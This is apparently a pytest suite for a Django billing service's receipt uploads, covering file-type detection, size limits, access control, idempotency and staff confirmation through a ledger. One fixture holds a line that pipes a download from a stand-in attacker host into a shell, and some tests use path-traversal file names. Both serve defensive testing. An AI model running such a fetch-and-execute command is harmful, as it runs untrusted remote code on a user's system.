"""Bank transfer with a receipt (rule 8, RELIABILITY "Uploads"): the customer uploads it on an
unpaid invoice; files are judged by their content and kept under random names in a private
store; staff confirm (the payment goes through the ledger and the order is delivered) or reject
it with a reason the customer is emailed. A receipt is confirmed once."""

import stat
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import time_machine
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile

from licensary.accounts.models import User
from licensary.accounts.services import terms_publish
from licensary.audit.models import AuditEntry
from licensary.billing.models import Invoice, Payment, Receipt
from licensary.billing.receipts import MAX_RECEIPT_BYTES
from licensary.billing.services import invoice_pay_with_credit
from licensary.catalog.models import Product
from licensary.ledger.models import LedgerTransaction
from licensary.ledger.services import account_credit
from licensary.licenses.models import License
from licensary.orders.models import Order
from licensary.orders.services import order_create
from tests.concurrency import errors, require_postgres, run_concurrently
from tests.helpers import PUBLIC_IP, Api, api_for, give_credit, refusal, run_jobs

PROBLEM = "application/problem+json"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 64
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x11" * 64
WEBP = b"RIFF" + (76).to_bytes(4, "little") + b"WEBPVP8 " + b"\x22" * 64
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
SCRIPT = b"#!/bin/sh\ncurl https://evil.test/x | sh\n"


@pytest.fixture(autouse=True)
def data_dir(settings: Any, tmp_path: Path) -> Path:
    settings.DATA_DIR = tmp_path / "data"
    return settings.DATA_DIR


@pytest.fixture
def store(data_dir: Path) -> Path:
    return data_dir / "receipts"


@pytest.fixture
def order(alice: User, product: Product) -> Order:
    """alice's unpaid order; its invoice is 1500 (license 1000 + setup fee 500)."""
    return order_create(actor=alice, product=product, ip=PUBLIC_IP)


def upload(
    api: Api,
    invoice_id: object,
    name: str = "receipt.png",
    content: bytes = PNG,
    reference: str | None = "TX-2024-001",
    declared: str = "image/png",
    **headers: str,
) -> Any:
    data: dict[str, Any] = {"file": SimpleUploadedFile(name, content, content_type=declared)}
    if reference is not None:
        data["reference"] = reference
    extra = dict(api.headers)
    for header, value in headers.items():
        extra["HTTP_" + header.upper().replace("-", "_")] = value
    response = api.client.post(f"/api/v1/invoices/{invoice_id}/receipts", data, **extra)
    response.json_body = response.json() if response["Content-Type"] != "text/html" else None
    return response


def files_under(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.is_file()) if folder.exists() else []


def assert_refused(response: Any, status: int, code: str, store: Path) -> None:
    assert (response.status_code, response.json_body["code"]) == (status, code), response.json_body
    assert response["Content-Type"] == PROBLEM
    assert Receipt.objects.count() == 0
    assert files_under(store) == []


# Uploading ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type", "extension"),
    [
        ("scan.pdf", PDF, "application/pdf", "pdf"),
        ("photo.webp", WEBP, "image/webp", "webp"),
        ("photo.jpeg", JPEG, "image/jpeg", "jpg"),
        ("receipt.png", PNG, "image/png", "png"),
        ("scan.txt", PDF, "application/pdf", "pdf"),  # the content decides, not the name
    ],
)
def test_a_receipt_is_kept_under_a_random_name_with_its_detected_type(
    alice, order, store, name, content, content_type, extension
):
    import hashlib

    response = upload(api_for(alice), order.invoice_id, name, content, declared="text/plain")

    assert response.status_code == 201, response.json_body
    body = response.json_body
    assert body["invoice"] == str(order.invoice_id)
    assert body["status"] == "pending"
    assert body["reference"] == "TX-2024-001"
    assert body["content_type"] == content_type
    assert body["original_name"] == name
    assert body["size"] == len(content)
    assert body["sha256"] == hashlib.sha256(content).hexdigest()
    assert body["amount_received"] is None
    receipt = Receipt.objects.get()
    assert receipt.stored_name != name
    assert len(receipt.stored_name) == 32 + 1 + len(extension)
    assert receipt.stored_name.endswith(f".{extension}")
    assert files_under(store) == [store / receipt.stored_name]
    assert (store / receipt.stored_name).read_bytes() == content
    assert stat.S_IMODE(store.stat().st_mode) == 0o700
    assert stat.S_IMODE((store / receipt.stored_name).stat().st_mode) == 0o600
    assert (
        AuditEntry.objects.filter(action="receipt.uploaded", object_id=str(receipt.pk)).count() == 1
    )


def test_a_script_renamed_png_is_refused_as_unsupported(alice, order, store):
    response = upload(api_for(alice), order.invoice_id, "receipt.png", SCRIPT, declared="image/png")

    assert_refused(response, 415, "unsupported_file_type", store)


def test_an_empty_file_is_refused(alice, order, store):
    response = upload(api_for(alice), order.invoice_id, "receipt.png", b"")

    assert_refused(response, 422, "empty_file", store)


def test_an_11_mb_file_is_refused_before_it_is_read(alice, order, store):
    response = upload(api_for(alice), order.invoice_id, "big.pdf", PDF + b"0" * (11 * 1024 * 1024))

    assert_refused(response, 413, "file_too_large", store)


def test_a_file_one_byte_over_10_mb_is_refused_while_it_streams_in(alice, order, store):
    content = PDF + b"0" * (MAX_RECEIPT_BYTES + 1 - len(PDF))

    response = upload(api_for(alice), order.invoice_id, "big.pdf", content)

    assert_refused(response, 413, "file_too_large", store)


def test_a_file_of_exactly_10_mb_is_accepted(alice, order, store):
    content = PDF + b"0" * (MAX_RECEIPT_BYTES - len(PDF))

    response = upload(api_for(alice), order.invoice_id, "big.pdf", content)

    assert response.status_code == 201, response.json_body
    assert response.json_body["size"] == MAX_RECEIPT_BYTES


def test_a_missing_file_is_a_validation_error(alice, order, store):
    api = api_for(alice)
    response = api.client.post(
        f"/api/v1/invoices/{order.invoice_id}/receipts", {"reference": "TX-1"}, **api.headers
    )

    assert_refused(response_json(response), 422, "validation_error", store)


def response_json(response: Any) -> Any:
    response.json_body = response.json()
    return response


def download(api: Api, receipt_id: object) -> tuple[Any, bytes | None]:
    """The file's response and bytes; a refusal's problem body is in `json_body`."""
    response = api.client.get(f"/api/v1/receipts/{receipt_id}/file", **api.headers)
    if not response.streaming:
        return response_json(response), None
    return response, b"".join(response.streaming_content)  # the client closes it at the end


@pytest.mark.parametrize("filename", ["../../x.png", "..\\..\\x.png", "/etc/x.png"])
def test_a_path_in_the_file_name_is_kept_as_text_and_nothing_is_written_outside_the_store(
    alice, order, store, tmp_path, filename
):
    api = api_for(alice)
    # Built by hand: Django's test client would strip the path before sending it.
    body = (
        b'--BOUNDARY\r\nContent-Disposition: form-data; name="file"; filename="'
        + filename.encode()
        + b'"\r\nContent-Type: image/png\r\n\r\n'
        + PNG
        + b'\r\n--BOUNDARY\r\nContent-Disposition: form-data; name="reference"\r\n\r\n'
        b"TX-9\r\n--BOUNDARY--\r\n"
    )
    response = response_json(
        api.client.generic(
            "POST",
            f"/api/v1/invoices/{order.invoice_id}/receipts",
            body,
            content_type="multipart/form-data; boundary=BOUNDARY",
            **api.headers,
        )
    )

    assert response.status_code == 201, response.json_body
    assert response.json_body["original_name"] == "x.png"
    receipt = Receipt.objects.get()
    written = [p for p in files_under(tmp_path) if p != tmp_path / "audit_head"]
    assert written == [store / receipt.stored_name]
    assert not (tmp_path / "x.png").exists()
    assert not (store.parent.parent / "x.png").exists()


def test_a_long_file_name_is_truncated(alice, order):
    response = upload(api_for(alice), order.invoice_id, "r" * 300 + ".png", PNG)

    assert response.status_code == 201, response.json_body
    assert len(Receipt.objects.get().original_name) == 200


def test_only_an_unpaid_invoice_takes_a_receipt(alice, order, staff, store):
    give_credit(alice, 1500, staff)
    invoice_pay_with_credit(invoice=order.invoice, actor=alice)

    response = upload(api_for(alice), order.invoice_id)

    assert_refused(response, 409, "invalid_transition", store)


def test_another_customer_cannot_upload_on_an_invoice_that_is_not_theirs(bob, order, store):
    response = upload(api_for(bob), order.invoice_id)

    assert_refused(response, 404, "not_found", store)


def test_an_agent_uploads_for_its_customer_and_staff_for_anyone(carol, dave, staff, product):
    # Dave's own order: his invoice, which his agent may pay for him (an order carol places
    # for him is billed to carol herself).
    dave_order = order_create(actor=dave, product=product, ip=PUBLIC_IP)

    by_agent = upload(api_for(carol), dave_order.invoice_id)
    by_staff = upload(api_for(staff), dave_order.invoice_id, "scan.pdf", PDF, reference=None)

    assert (by_agent.status_code, by_staff.status_code) == (201, 201)
    assert by_agent.json_body["account"] == str(dave.pk)
    assert by_agent.json_body["uploaded_by"] == str(carol.pk)
    assert by_staff.json_body["reference"] == ""


def test_an_account_that_has_not_accepted_the_latest_terms_cannot_upload(
    alice, order, staff, store
):
    terms_publish(text="New terms.", actor=staff)

    response = upload(api_for(alice), order.invoice_id)

    assert_refused(response, 403, "terms_not_accepted", store)


def test_an_upload_replayed_with_its_idempotency_key_keeps_one_receipt(alice, order, store):
    api = api_for(alice)
    content = PDF + b"1" * (3 * 1024 * 1024)  # above Django's 2.5 MB in-memory body limit

    first = upload(api, order.invoice_id, "scan.pdf", content, **{"Idempotency-Key": "r-1"})
    again = upload(api, order.invoice_id, "scan.pdf", content, **{"Idempotency-Key": "r-1"})
    other = upload(api, order.invoice_id, "scan.pdf", PDF, **{"Idempotency-Key": "r-1"})

    assert first.status_code == 201, first.json_body
    assert (again.status_code, again.json_body) == (201, first.json_body)
    assert (other.status_code, other.json_body["code"]) == (409, "idempotency_conflict")
    assert Receipt.objects.count() == 1
    assert len(files_under(store)) == 1


# Reading -----------------------------------------------------------------------------------


def test_the_file_is_served_as_an_attachment_to_the_owner_and_staff_only(alice, bob, staff, order):
    receipt_id = upload(
        api_for(alice), order.invoice_id, "scan.pdf", PDF, declared="text/html"
    ).json_body["id"]

    for user in (alice, staff):
        response, content = download(api_for(user), receipt_id)
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"] == f'attachment; filename="receipt-{receipt_id}.pdf"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert content == PDF
    refused, _ = download(api_for(bob), receipt_id)
    made_up, _ = download(api_for(bob), 987654321)
    assert (refused.status_code, refusal(refused)) == (404, refusal(made_up))
    assert refused.json_body["code"] == "not_found"
    assert api_for(bob).get(f"/receipts/{receipt_id}").status_code == 404
    assert download(Api(), receipt_id)[0].status_code == 401


def test_an_agent_reads_its_customer_s_receipt_but_not_the_file_it_did_not_upload(
    carol, dave, product
):
    dave_order = order_create(actor=dave, product=product, ip=PUBLIC_IP)
    receipt_id = upload(api_for(dave), dave_order.invoice_id).json_body["id"]

    assert api_for(carol).get(f"/receipts/{receipt_id}").status_code == 200
    assert download(api_for(carol), receipt_id)[0].status_code == 404
    assert download(api_for(dave), receipt_id)[1] == PNG


def test_staff_see_receipts_beside_the_invoice_and_the_pending_queue(
    alice, bob, staff, product, order
):
    bob_order = order_create(actor=bob, product=product, ip="93.184.216.35")
    first = upload(api_for(alice), order.invoice_id).json_body["id"]
    second = upload(
        api_for(alice), order.invoice_id, "scan.pdf", PDF, reference="TX-2024-002"
    ).json_body["id"]
    bobs = upload(
        api_for(bob), bob_order.invoice_id, "bob.png", PNG + b"bob", reference="TX-2024-003"
    ).json_body["id"]  # another transfer
    api_for(staff).post(f"/receipts/{first}/reject", {"reason": "Unreadable."})

    beside = api_for(staff).get(f"/invoices/{order.invoice_id}/receipts").json_body
    queue = api_for(staff).get("/receipts?status=pending").json_body
    alices = api_for(alice).get("/receipts").json_body

    assert [(r["id"], r["status"]) for r in beside["items"]] == [
        (second, "pending"),
        (first, "rejected"),
    ]
    assert [r["id"] for r in queue["items"]] == [bobs, second]
    assert [r["id"] for r in alices["items"]] == [second, first]
    assert api_for(staff).get("/receipts?status=lost").status_code == 422
    assert api_for(bob).get(f"/invoices/{order.invoice_id}/receipts").status_code == 404


# Deciding ----------------------------------------------------------------------------------


def test_confirming_pays_the_invoice_through_the_ledger_and_delivers_the_order(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]

    confirmed = api_for(staff).post(f"/receipts/{receipt_id}/confirm")

    assert confirmed.status_code == 200, confirmed.json_body
    assert confirmed.json_body["status"] == "confirmed"
    assert confirmed.json_body["amount_received"] == {"amount": 1500, "currency": "USD"}
    assert confirmed.json_body["decided_by"] == str(staff.pk)
    assert confirmed.json_body["decided_at"] is not None
    payment = Payment.objects.get(invoice=order.invoice)
    assert (payment.method, payment.gateway, payment.amount, payment.reference) == (
        "bank",
        "bank",
        1500,
        "TX-2024-001",
    )
    assert Invoice.objects.get(pk=order.invoice_id).status == "paid"
    assert Order.objects.get(pk=order.pk).status == "processing"
    assert account_credit(alice).amount == 0
    assert (
        AuditEntry.objects.filter(action="receipt.confirmed", object_id=str(receipt_id)).count()
        == 1
    )

    run_jobs()

    order.refresh_from_db()
    assert order.status == "completed"
    assert License.objects.get(pk=order.license_id).status == "active"


def test_a_receipt_is_confirmed_once(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]
    api_for(staff).post(f"/receipts/{receipt_id}/confirm")

    again = api_for(staff).post(f"/receipts/{receipt_id}/confirm")
    reject = api_for(staff).post(f"/receipts/{receipt_id}/reject", {"reason": "Late."})

    assert (again.status_code, again.json_body["code"]) == (409, "invalid_transition")
    assert (reject.status_code, reject.json_body["code"]) == (409, "invalid_transition")
    assert Payment.objects.count() == 1
    assert LedgerTransaction.objects.filter(invoice=order.invoice).count() == 1
    assert account_credit(alice).amount == 0


def test_a_confirmation_replayed_with_its_key_is_recorded_once(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]
    api = api_for(staff)

    first = api.post(
        f"/receipts/{receipt_id}/confirm", {"amount": 1500}, **{"Idempotency-Key": "c-1"}
    )
    again = api.post(
        f"/receipts/{receipt_id}/confirm", {"amount": 1500}, **{"Idempotency-Key": "c-1"}
    )

    assert (first.status_code, again.status_code) == (200, 200)
    assert again.json_body == first.json_body
    assert Payment.objects.count() == 1


def test_a_replayed_confirmation_renders_its_times_as_the_first_answer_did(alice, staff, order):
    # A decision under a millisecond past the second rendered "...49.000Z" first and "...49Z"
    # on replay, from the stored text: the replay must be the first answer, byte for byte.
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]
    api = api_for(staff)

    with time_machine.travel(datetime(2026, 12, 2, 10, 0, 49, 400, tzinfo=UTC), tick=False):
        first = api.post(
            f"/receipts/{receipt_id}/confirm", {"amount": 1500}, **{"Idempotency-Key": "c-2"}
        )
        again = api.post(
            f"/receipts/{receipt_id}/confirm", {"amount": 1500}, **{"Idempotency-Key": "c-2"}
        )

    assert (first.status_code, again.status_code) == (200, 200)
    assert first.content == again.content


def test_paying_more_than_due_puts_the_rest_on_credit(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]

    confirmed = api_for(staff).post(f"/receipts/{receipt_id}/confirm", {"amount": 2000})

    assert confirmed.status_code == 200, confirmed.json_body
    assert confirmed.json_body["amount_received"]["amount"] == 2000
    assert Invoice.objects.get(pk=order.invoice_id).status == "paid"
    assert Payment.objects.get(invoice=order.invoice).amount == 2000
    assert account_credit(alice).amount == 500


def test_paying_less_than_due_is_refused_and_changes_nothing(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]

    short = api_for(staff).post(f"/receipts/{receipt_id}/confirm", {"amount": 1499})

    assert (short.status_code, short.json_body["code"]) == (422, "amount_short")
    assert Receipt.objects.get().status == "pending"
    assert Payment.objects.count() == 0
    assert account_credit(alice).amount == 0


def test_a_receipt_for_an_invoice_paid_meanwhile_goes_to_credit_when_staff_say_so(
    alice, staff, order
):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]
    give_credit(alice, 1500, staff)
    invoice_pay_with_credit(invoice=order.invoice, actor=alice)
    assert account_credit(alice).amount == 0

    confirmed = api_for(staff).post(f"/receipts/{receipt_id}/confirm", {"to_credit": True})

    assert confirmed.status_code == 200, confirmed.json_body
    assert confirmed.json_body["status"] == "confirmed"
    assert account_credit(alice).amount == 1500
    assert Payment.objects.get(invoice=order.invoice).method == "credit"
    entry = AuditEntry.objects.get(action="receipt.confirmed")
    assert (entry.after["outcome"], entry.after["credited"]) == ("credited", 1500)


def test_rejecting_with_a_reason_tells_the_customer(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]

    rejected = api_for(staff).post(
        f"/receipts/{receipt_id}/reject", {"reason": "The amount on the slip is 150.00, not 15.00."}
    )

    assert rejected.status_code == 200, rejected.json_body
    assert rejected.json_body["status"] == "rejected"
    assert rejected.json_body["reason"] == "The amount on the slip is 150.00, not 15.00."
    assert Invoice.objects.get(pk=order.invoice_id).status == "unpaid"
    assert AuditEntry.objects.filter(action="receipt.rejected").count() == 1
    assert mail.outbox == []  # sent by the worker, after the decision commits

    run_jobs()

    # The order's invoice (still unpaid) had its own mail; then the rejection, once.
    number = order.invoice.number
    assert [(m.to, m.subject) for m in mail.outbox] == [
        (["alice@example.test"], f"Invoice {number} for order {order.pk}"),
        (["alice@example.test"], f"Invoice {number}: your payment receipt was not accepted"),
    ]
    assert "The amount on the slip is 150.00, not 15.00." in mail.outbox[1].body


def test_a_rejection_needs_a_reason(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]

    for body in ({"reason": "   "}, {}):
        refused = api_for(staff).post(f"/receipts/{receipt_id}/reject", body)
        assert (refused.status_code, refused.json_body["code"]) == (422, "validation_error")
    assert Receipt.objects.get().status == "pending"


def test_only_staff_decide_receipts(alice, staff, order):
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]

    confirm = api_for(alice).post(f"/receipts/{receipt_id}/confirm")
    reject = api_for(alice).post(f"/receipts/{receipt_id}/reject", {"reason": "Mine."})

    assert (confirm.status_code, confirm.json_body["code"]) == (403, "permission_denied")
    assert (reject.status_code, reject.json_body["code"]) == (403, "permission_denied")
    assert Receipt.objects.get().status == "pending"
    assert Payment.objects.count() == 0


@pytest.mark.django_db(transaction=True)
def test_concurrent_confirmations_record_the_payment_once(alice, staff, order):
    require_postgres()
    receipt_id = upload(api_for(alice), order.invoice_id).json_body["id"]
    apis = [api_for(staff) for _ in range(8)]

    def confirm(i: int) -> tuple[int, str | None]:
        response = apis[i].post(f"/receipts/{receipt_id}/confirm", {"amount": 2000})
        return response.status_code, (response.json_body or {}).get("code")

    results = run_concurrently(confirm, len(apis))

    assert not errors(results), errors(results)
    assert sorted(results) == [(200, None)] + [(409, "invalid_transition")] * 7
    assert Payment.objects.count() == 1
    assert account_credit(alice).amount == 500
    assert AuditEntry.objects.filter(action="receipt.confirmed").count() == 1
